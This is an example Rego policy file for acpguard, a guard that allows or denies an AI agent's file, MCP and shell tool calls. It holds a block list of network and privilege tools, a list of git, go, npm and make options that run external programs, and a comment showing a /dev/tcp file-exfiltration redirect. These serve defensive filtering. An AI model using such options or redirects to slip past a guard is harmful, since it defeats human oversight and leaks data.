# examples/policy.rego: the intent of examples/policy.json for
#   acpguard provider --opa http://127.0.0.1:8181/v1/data/acpguard/decision
# The input is the prepare request (toolName, arguments, sessionId, ...) and,
# for run_shell_command, "commands" (each simple command as bash runs it:
# argv after quote removal, assigns, redirects [{op, fd, target}], complex,
# why) and "complex" (something is not plain words: $(...), eval, ...).
package acpguard

import rego.v1

# The one document acpguard reads: {"allow": true}, or {"allow": false} with
# an optional "reason" shown to the user. Anything else is a denial.
default decision := {"allow": false, "reason": "No policy rule allows this tool call"}

decision := {"allow": true} if {
	allow
	count(deny) == 0
}

decision := {"allow": false, "reason": min(deny)} if count(deny) > 0

# Reading is free.
allow if input.toolName in {"read_file", "list_directory", "glob", "grep_search"}

# Files are written only under /tmp/ (the quickstart's workspace and temp
# paths; a prepare request carries no cwd), never through "..".
writable(p) if {
	startswith(p, "/tmp/")
	not contains(concat("", ["/", p, "/"]), "/../")
}

allow if {
	input.toolName in {"write_file", "edit"}
	writable(input.arguments.file_path)
}

deny contains "File paths containing .. are not allowed by policy" if {
	input.toolName in {"write_file", "edit"}
	contains(concat("", ["/", input.arguments.file_path, "/"]), "/../")
}

# The example settings' time server has one tool, and it reads the clock.
allow if input.toolName == "mcp__time__get_current_time"

deny contains "MCP tools are not enabled by this policy" if {
	startswith(input.toolName, "mcp__")
	input.toolName != "mcp__time__get_current_time"
}

# Shell: allowed only when every simple command is plain words, runs one of
# these programs (by basename: /usr/bin/git is git), sets no variables
# (GIT_EXTERNAL_DIFF=... git diff), uses no dangerous option and redirects
# only to /dev/null, another descriptor or a writable path.
programs := {"git", "npm", "go", "make", "ls", "pwd", "echo", "cat", "date"}

dangerous := {
	"git": {"-c", "--output", "--ext-diff", "--textconv", "--exec-path", "--upload-pack", "--config-env"},
	"npm": {"exec", "--script-shell", "--call"},
	"go": {"-exec", "-toolexec", "-vettool", "generate"},
	"make": {"--eval", "-E", "SHELL"},
}

base(w) := regex.replace(w, `^.*/`, "")

allow if {
	input.toolName == "run_shell_command"
	not input.complex
	count(input.commands) > 0
	every c in input.commands {
		command_ok(c)
	}
}

command_ok(c) if {
	base(c.argv[0]) in programs
	count(c.assigns) == 0
	not dangerous_option(c)
	every r in c.redirects {
		redirect_ok(r)
	}
}

# "--output", "--output=x" and "-c" in any word after the program's name.
dangerous_option(c) if {
	some w in array.slice(c.argv, 1, count(c.argv))
	some opt in dangerous[base(c.argv[0])]
	option_matches(w, opt)
}

option_matches(w, opt) if w == opt

option_matches(w, opt) if startswith(w, concat("", [opt, "="]))

# A long option in the other spellings programs read as it: one dash or
# two (Go's flag package reads -vettool as --vettool), and any two-dash
# prefix (GNU getopt_long reads --eva as --eval).
long_name(opt) := name if {
	startswith(opt, "-")
	name := trim_left(opt, "-")
	count(name) > 1
}

option_matches(w, opt) if {
	startswith(w, "-")
	trim_left(split(w, "=")[0], "-") == long_name(opt)
}

option_matches(w, opt) if {
	startswith(w, "--")
	prefix := trim_left(split(w, "=")[0], "-")
	count(prefix) > 0
	startswith(long_name(opt), prefix)
}

redirect_ok(r) if r.target == "/dev/null"

redirect_ok(r) if r.op == "<"

redirect_ok(r) if {
	r.op in {">&", "<&"}
	regex.match(`^([0-9]+|-)$`, r.target)
}

redirect_ok(r) if {
	r.op in {">", ">>", ">|", "&>", "&>>"}
	writable(r.target)
}

deny contains "git options that write files or run configured programs are not allowed by policy" if {
	input.toolName == "run_shell_command"
	some c in input.commands
	base(c.argv[0]) == "git"
	dangerous_option(c)
}

# Network tools and privilege escalation, in any word of any command:
# sudo curl, env wget and /usr/bin/ssh are all seen.
deny contains "Network tools and privilege escalation are not allowed by policy" if {
	input.toolName == "run_shell_command"
	some c in input.commands
	some w in c.argv
	base(w) in {"curl", "wget", "nc", "ncat", "ssh", "scp", "sftp", "rsync", "ftp", "telnet", "sudo", "su", "doas"}
}

# bash opens a redirection to /dev/tcp/HOST/PORT or /dev/udp/HOST/PORT as a
# socket, whatever the operator: cat f </dev/tcp/h/p >&0 sends the file.
heredoc_ops := {"<<", "<<-", "<<<"}

network_redirect(r) if {
	not r.op in heredoc_ops
	regex.match(`^/dev/(tcp|udp)/`, r.target)
}

deny contains "Shell redirections to the network are not allowed by policy" if {
	input.toolName == "run_shell_command"
	some c in input.commands
	some r in c.redirects
	network_redirect(r)
}

deny contains "Shell redirections may write only under /tmp/" if {
	input.toolName == "run_shell_command"
	some c in input.commands
	some r in c.redirects
	not redirect_ok(r)
}
